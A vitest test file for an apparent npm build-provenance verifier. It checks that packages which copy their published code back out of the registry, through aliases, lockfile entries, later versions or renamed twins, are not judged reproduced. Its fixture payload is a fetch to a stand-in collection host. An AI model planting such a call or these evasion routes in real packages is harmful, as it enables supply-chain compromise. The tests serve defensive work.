import { hash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENGINE, TestWorld } from '../support/world.ts';

const engine = ENGINE;
let world: TestWorld;
beforeAll(async () => {
  world = await TestWorld.open();
});
afterAll(() => world.close());

const PAYLOAD = 'fetch("https://collect.example");\n';
const COPY =
  "const fs = require('fs'); fs.mkdirSync('dist'); fs.copyFileSync('node_modules/tool/dist/index.js', 'dist/index.js');\n";
const MANIFEST = {
  files: ['dist'],
  main: 'dist/index.js',
  scripts: { build: 'node build.js' },
  devDependencies: { tool: '1.0.0' },
};

/** A lockfile whose `tool` is any artifact of the registry, under whatever name. */
function lockfile(name: string, tool: { readonly file: string; readonly bytes: Uint8Array }): object {
  const resolved = `https://registry.example/${tool.file}`;
  const integrity = `sha512-${hash('sha512', tool.bytes, 'base64')}`;
  return {
    name,
    version: '1.0.0',
    lockfileVersion: 3,
    packages: {
      '': { name, version: '1.0.0', devDependencies: MANIFEST.devDependencies },
      'node_modules/tool': { version: '1.0.0', resolved, integrity, dev: true },
    },
  };
}

/**
 * The source holds no payload. It asks the registry for the very artifact that is being verified and copies the payload
 * out of it. When the version was made none of this existed yet: no honest build can have used it.
 */
describe('a source that gets its payload out of the artifact that it is to explain', () => {
  it('by an alias with any range is not reproduced', async () => {
    const manifest = { ...MANIFEST, devDependencies: { tool: 'npm:alias-self@*' } };
    world.source('alias-self', { 'build.js': COPY }, manifest);
    world.publish('alias-self', { 'dist/index.js': PAYLOAD }, manifest);
    expect((await world.verify('alias-self', { engine })).verdict).toBe('unverifiable');
  });

  it('by an entry of its lockfile under another name is not reproduced', async () => {
    const name = 'locked-self';
    const bytes = world.publish(name, { 'dist/index.js': PAYLOAD }, MANIFEST);
    const lock = lockfile(name, { file: `${name}/-/${name}-1.0.0.tgz`, bytes });
    world.source(name, { 'build.js': COPY, 'package-lock.json': lock }, MANIFEST);
    expect((await world.verify(name, { engine })).verdict).toBe('unverifiable');
  });

  it('by a later version of the same package, which its lockfile names, is not reproduced', async () => {
    const name = 'next-self';
    const bytes = world.publish(name, { 'dist/index.js': PAYLOAD }, MANIFEST);
    world.registry.publish({
      manifest: { name, version: '1.0.1' },
      bytes,
      time: '2024-03-01T12:02:30.000Z',
      tags: ['next'],
    });
    const lock = lockfile(name, { file: `${name}/-/${name}-1.0.1.tgz`, bytes });
    world.source(name, { 'build.js': COPY, 'package-lock.json': lock }, MANIFEST);
    expect((await world.verify(`${name}@1.0.0`, { engine })).verdict).not.toBe('reproduced');
  });

  it('by the same bytes under the name of another package is not reproduced', async () => {
    const name = 'twin-self';
    const bytes = world.publish(name, { 'dist/index.js': PAYLOAD }, MANIFEST);
    // Registries do not look at the name inside of an artifact.
    const time = '2024-03-01T12:01:30.000Z';
    world.registry.publish({ manifest: { name: 'twin', version: '1.0.0' }, bytes, time });
    const lock = lockfile(name, { file: 'twin/-/twin-1.0.0.tgz', bytes });
    world.source(name, { 'build.js': COPY, 'package-lock.json': lock }, MANIFEST);
    expect((await world.verify(name, { engine })).verdict).not.toBe('reproduced');
  });
});
